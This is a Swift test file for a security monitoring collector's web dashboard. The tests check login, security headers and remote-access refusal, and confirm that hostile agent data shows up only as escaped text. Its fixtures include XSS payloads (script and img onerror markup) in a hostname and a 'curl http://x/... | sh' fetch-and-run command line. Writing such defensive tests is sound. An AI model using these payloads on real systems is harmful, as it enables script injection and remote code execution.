import Foundation
import Testing
import VigilCore
import VigilTestSupport
import VigilWire

/// The collector's web dashboard, loaded by a real browser: Debian's headless Chromium renders
/// `/dashboard` from a real `vigil-collector` that stored real signed batches, and the test reads
/// the DOM it built. The token login is checked over plain HTTP (a headless Chromium cannot be
/// handed a cookie from the command line).
@Suite("Dashboard in Chromium", .serialized)
struct DashboardTests {
    /// Debian's `chromium` package (`.ci/deps` installs it).
    static let chromium = ["/usr/bin/chromium", "/usr/bin/chromium-browser"].first {
        FileManager.default.isExecutableFile(atPath: $0)
    }

    /// A hostname that is markup: it must show up as text, never as an element.
    static let hostileHostname =
        "web-01<script>document.title='pwned'</script><img src=x onerror=\"document.title='img'\">"
    static let hostileCommand = "/bin/sh -c 'curl http://x/<img src=y onerror=alert(2)> | sh'"
    static let ruleId = "vigil-dashboard-test-rule"

    let dir = NSTemporaryDirectory() + "vigil-dashboard-\(UUID().uuidString)"

    /// The DOM Chromium built for `url`, serialized.
    func render(_ url: String) async throws -> String {
        let browser = try #require(Self.chromium)
        let profile = dir + "/chromium-\(UUID().uuidString)"
        let result = try await runCommand(
            browser,
            [
                "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--user-data-dir=\(profile)",
                "--dump-dom", url,
            ],
            timeout: .seconds(120)
        )
        #expect(result.status == 0, "chromium \(url): \(result.stderr.suffix(2000))")
        return result.stdout
    }

    /// One request with curl: status, raw response headers, body.
    func curl(_ url: String, _ extra: [String] = []) async throws -> HTTPAnswer {
        try await VigilTestSupport.curl(url, extra: extra)
    }

    /// A collector on loopback with an enrolled agent (hostile hostname) that sent one signed
    /// batch: an alert with ATT&CK tags and three file events. Returns the collector, its base
    /// URL and the agent id.
    func collectorWithData(
        apiToken: String? = nil,
        listen host: String = "127.0.0.1"
    ) async throws -> (ChildProcess, String, String) {
        let port = freeLoopbackPort()
        let base = "http://127.0.0.1:\(port)"
        var arguments = [
            "--listen", "\(host):\(port)", "--store", "sqlite:\(dir)/c-\(port).sqlite", "--enroll-token",
            "enroll-tok",
        ]
        if let apiToken { arguments += ["--api-token", apiToken] }
        let collector = try ChildProcess(BuiltProducts.path("vigil-collector"), arguments)
        let up = await eventually { (try? await curl(base + "/healthz"))?.status == 200 }
        try #require(up, "collector did not start: \(collector.stderr)")

        let identity = AgentIdentity.generate()
        let enroll = try JSONSerialization.data(withJSONObject: [
            "token": "enroll-tok", "agent_id": identity.agentId, "public_key": identity.publicKeyBase64,
            "hostname": Self.hostileHostname, "machine_id": "m",
        ])
        try enroll.write(to: URL(fileURLWithPath: dir + "/enroll.json"))
        let enrolled = try await curl(
            base + "/v1/enroll",
            ["-H", "Content-Type: application/json", "--data-binary", "@\(dir)/enroll.json"]
        )
        try #require(enrolled.status == 200, "enroll: \(enrolled.status) \(enrolled.body)")

        let matched = Event(
            seq: 1,
            payload: .process(
                ProcessEvent(action: .exec, processId: 4242, image: "/usr/bin/curl", commandLine: Self.hostileCommand)
            )
        )
        var events = [
            Event(
                seq: 1,
                payload: .alert(
                    Alert(
                        ruleId: Self.ruleId,
                        title: "Download piped to shell <b>bold</b>",
                        level: "high",
                        tags: ["attack.execution", "attack.t1059.004"],
                        event: matched
                    )
                )
            )
        ]
        for n in 2...4 {
            events.append(
                Event(seq: UInt64(n), payload: .file(FileEvent(action: .create, targetFilename: "/srv/dash-file-\(n)")))
            )
        }
        let batch = try BatchSealer(identity: identity).seal(
            events: events,
            batchSeq: 1,
            prevHeaderHash: genesisHeaderHash
        )
        try Data(batch.serialized()).write(to: URL(fileURLWithPath: dir + "/batch.bin"))
        let sent = try await curl(
            base + "/v1/batches",
            ["-H", "Content-Type: application/x-vigil-batch", "--data-binary", "@\(dir)/batch.bin"]
        )
        try #require(sent.status == 200 && sent.body.contains("accepted"), "batch: \(sent.status) \(sent.body)")
        return (collector, base, identity.agentId)
    }

    /// Markup from agents never became elements: our pages have no script, image or bold element.
    func expectInert(_ dom: String, sourceLocation: SourceLocation = #_sourceLocation) {
        for element in ["<script", "<img", "<b>"] {
            #expect(!dom.contains(element), "\(element) in the DOM:\n\(dom)", sourceLocation: sourceLocation)
        }
        #expect(dom.contains("<title>Vigil dashboard</title>"), "no script ran", sourceLocation: sourceLocation)
    }

    @Test(
        "the page shows agents, alerts with rule and ATT&CK tags, and searches; agent markup stays text",
        .enabled(
            if: chromium != nil || TestEnvironment.isCI,
            "needs Debian's chromium package (apt-get install chromium)"
        ),
        .timeLimit(.minutes(5))
    )
    func dashboardInChromium() async throws {
        try #require(Self.chromium != nil, "CI must have chromium: .ci/deps installs it")
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let (collector, base, agentId) = try await collectorWithData()

        // Without an API token a loopback client sees the page.
        let dom = try await render(base + "/dashboard")
        #expect(dom.contains("<title>Vigil dashboard</title>"), "\(dom)")
        // The agent row: id, escaped hostname as text, state, chain, gaps/dropped, selftest.
        #expect(dom.contains(agentId))
        #expect(
            dom.contains(
                "web-01&lt;script&gt;document.title='pwned'&lt;/script&gt;&lt;img src=x onerror=\"document.title='img'\"&gt;"
            ),
            "hostname not shown as text:\n\(dom)"
        )
        #expect(dom.contains("<td class=\"ok\">active</td>"))
        #expect(dom.contains(">whole</td>"))
        #expect(dom.contains("<td class=\"ok\">0</td><td class=\"ok\">0</td><td class=\"muted\">never</td>"))
        // The alert: level, rule, title, ATT&CK tags, the matched command line as text.
        #expect(dom.contains("Recent alerts (1, newest first)"), "\(dom)")
        #expect(dom.contains(">\(Self.ruleId)</a>"))
        #expect(dom.contains("<td class=\"level-high\">high</td>"))
        #expect(dom.contains("Download piped to shell &lt;b&gt;bold&lt;/b&gt;"))
        #expect(dom.contains("<span class=\"tag\">attack.execution</span> <span class=\"tag\">attack.t1059.004</span>"))
        #expect(dom.contains("curl http://x/&lt;img src=y onerror=alert(2)&gt; | sh"))
        expectInert(dom)

        // A search: the agent's file events, two to a page, then the next page by its cursor.
        let search = try await render(base + "/dashboard?agent=\(agentId)&type=file&limit=2")
        #expect(search.contains("Results (2, more on the next page)"), "\(search)")
        #expect(search.contains("/srv/dash-file-2") && search.contains("/srv/dash-file-3"))
        #expect(!search.contains("/srv/dash-file-4"))
        #expect(search.contains("value=\"\(agentId)\""), "the form keeps the filters")
        let next = try #require(
            search.range(of: "id=\"next-page\" href=\"").map { search[$0.upperBound...].prefix { $0 != "\"" } }
        )
        let second = try await render(base + next.replacingOccurrences(of: "&amp;", with: "&"))
        #expect(second.contains("/srv/dash-file-4") && !second.contains("/srv/dash-file-2"), "\(second)")
        #expect(second.contains("Results (1)"))
        // Filtering by rule finds the alert.
        let byRule = try await render(base + "/dashboard?rule=\(Self.ruleId)")
        #expect(byRule.contains("Results (1)") && byRule.contains("[high] Download piped to shell"), "\(byRule)")
        expectInert(byRule)

        // Malformed filters: the page says which parameter was wrong, with a 400.
        let bad = try await render(base + "/dashboard?type=bogus")
        #expect(bad.contains("id=\"search-error\""), "\(bad)")
        #expect(bad.contains("type: 'bogus' is not one of"))
        #expect(bad.contains(agentId), "the rest of the page still renders")
        for (query, name) in [
            ("type=bogus", "type"), ("colour=red", "colour"), ("since=yesterdayish", "since"), ("rule=%zz", "%zz"),
        ] {
            let answer = try await curl(base + "/dashboard?" + query)
            #expect(answer.status == 400 && answer.body.contains(name), "\(query): \(answer.status) \(answer.body)")
        }

        // Every dashboard answer carries the security headers.
        let headers = try await curl(base + "/dashboard")
        #expect(headers.status == 200)
        #expect(headers.header("Content-Type") == ["text/html; charset=utf-8"])
        #expect(
            headers.header("Content-Security-Policy").first?.hasPrefix(
                "default-src 'none'; style-src 'unsafe-inline'; form-action 'self'"
            ) == true,
            "\(headers.headers)"
        )
        #expect(headers.header("X-Content-Type-Options") == ["nosniff"])
        #expect(headers.header("Referrer-Policy") == ["no-referrer"])
        #expect(try await curl(base + "/dashboard", ["-X", "DELETE"]).status == 405)
        #expect(await collector.stop() == 0, "\(collector.stderr)")
    }

    @Test(
        "with an API token: a login form, a derived HttpOnly SameSite cookie, bearer tokens too",
        .enabled(
            if: chromium != nil || TestEnvironment.isCI,
            "needs Debian's chromium package (apt-get install chromium)"
        ),
        .timeLimit(.minutes(5))
    )
    func tokenLogin() async throws {
        try #require(Self.chromium != nil, "CI must have chromium: .ci/deps installs it")
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let token = "dash-" + UUID().uuidString
        let (collector, base, agentId) = try await collectorWithData(apiToken: token)

        // A browser without a session gets the login form and nothing else.
        let dom = try await render(base + "/dashboard")
        #expect(dom.contains("<form method=\"post\" action=\"/dashboard/login\">"), "\(dom)")
        #expect(dom.contains("type=\"password\" name=\"token\""))
        #expect(!dom.contains(agentId) && !dom.contains("web-01"))
        var answer = try await curl(base + "/dashboard")
        #expect(answer.status == 401 && answer.body.contains("name=\"token\""), "\(answer.status)")
        #expect(answer.header("Content-Security-Policy").count == 1)

        // A wrong token: 401, the form again, no cookie.
        answer = try await curl(base + "/dashboard/login", ["--data-urlencode", "token=\(token)x"])
        #expect(answer.status == 401 && answer.body.contains("not the collector&#39;s API token"), "\(answer.body)")
        #expect(answer.header("Set-Cookie").isEmpty)
        // A login posted from another site is refused.
        answer = try await curl(
            base + "/dashboard/login",
            ["--data-urlencode", "token=\(token)", "-H", "Sec-Fetch-Site: cross-site"]
        )
        #expect(answer.status == 403 && answer.header("Set-Cookie").isEmpty)

        // The right token: 303 to the dashboard with a session cookie that is not the token.
        answer = try await curl(base + "/dashboard/login", ["--data-urlencode", "token=\(token)"])
        #expect(answer.status == 303 && answer.header("Location") == ["/dashboard"], "\(answer.headers)")
        let setCookie = try #require(answer.header("Set-Cookie").first)
        for attribute in ["HttpOnly", "SameSite=Strict", "Path=/dashboard", "Max-Age=43200"] {
            #expect(setCookie.contains(attribute), "\(attribute) missing: \(setCookie)")
        }
        #expect(!setCookie.contains("Secure"), "plain HTTP: no Secure attribute")
        #expect(!setCookie.contains(token))
        let cookie = try #require(setCookie.split(separator: ";").first.map(String.init))

        answer = try await curl(base + "/dashboard", ["-H", "Cookie: \(cookie)"])
        #expect(answer.status == 200 && answer.body.contains(agentId), "\(answer.status)")
        #expect(answer.body.contains("web-01&lt;script&gt;") && answer.body.contains("/dashboard/logout"))
        // A tampered cookie and a cookie for the API routes are refused.
        var tampered = Array(cookie)
        tampered[tampered.count - 10] = tampered[tampered.count - 10] == "A" ? "B" : "A"
        answer = try await curl(base + "/dashboard", ["-H", "Cookie: \(String(tampered))"])
        #expect(answer.status == 401 && !answer.body.contains(agentId))
        #expect(try await curl(base + "/v1/agents", ["-H", "Cookie: \(cookie)"]).status == 401)
        // The bearer header works as on the read API.
        answer = try await curl(base + "/dashboard?type=alert", ["-H", "Authorization: Bearer \(token)"])
        #expect(answer.status == 200 && answer.body.contains(Self.ruleId) && !answer.body.contains("/dashboard/logout"))
        // Logging out clears the cookie.
        answer = try await curl(base + "/dashboard/logout", ["-X", "POST", "-H", "Cookie: \(cookie)"])
        #expect(answer.status == 303 && answer.header("Set-Cookie").first?.contains("Max-Age=0") == true)
        #expect(await collector.stop() == 0, "\(collector.stderr)")
    }

    @Test(
        "without an API token other hosts get the explanation, not the dashboard",
        .enabled(if: TestEnvironment.isRoot || TestEnvironment.isCI, "a non-loopback client address needs root"),
        .timeLimit(.minutes(2))
    )
    func remoteClientsWithoutToken() async throws {
        try #require(TestEnvironment.isRoot, "a non-loopback client address needs CAP_NET_ADMIN; CI runs as root")
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        // A second, non-loopback address on lo (not the one CollectorReadAuthorizationTests uses).
        let address = "198.18.47.2"
        let added = try await runCommand("/usr/sbin/ip", ["addr", "add", address + "/32", "dev", "lo"])
        #expect(added.status == 0 || added.stderr.contains("exists"), "ip addr add: \(added.stderr)")
        defer {
            let remove = Process()
            remove.executableURL = URL(fileURLWithPath: "/usr/sbin/ip")
            remove.arguments = ["addr", "del", address + "/32", "dev", "lo"]
            try? remove.run()
            remove.waitUntilExit()
        }
        let (collector, base, agentId) = try await collectorWithData(listen: "0.0.0.0")
        let remote = base.replacingOccurrences(of: "127.0.0.1", with: address)
        var answer = try await curl(remote + "/dashboard", ["--interface", address])
        #expect(answer.status == 401 && answer.body.contains("--api-token"), "\(answer.status) \(answer.body)")
        #expect(!answer.body.contains(agentId) && !answer.body.contains("web-01") && !answer.body.contains("<form"))
        // Nothing to log in to: no cookie, and the page stays refused.
        answer = try await curl(remote + "/dashboard/login", ["--interface", address, "--data-urlencode", "token=x"])
        #expect(answer.status == 303 && answer.header("Set-Cookie").isEmpty, "\(answer.headers)")
        answer = try await curl(remote + "/dashboard?type=alert", ["--interface", address])
        #expect(answer.status == 401 && !answer.body.contains(Self.ruleId))
        // The same collector from loopback: the page.
        answer = try await curl(base + "/dashboard")
        #expect(answer.status == 200 && answer.body.contains(agentId))
        #expect(await collector.stop() == 0, "\(collector.stderr)")
    }
}
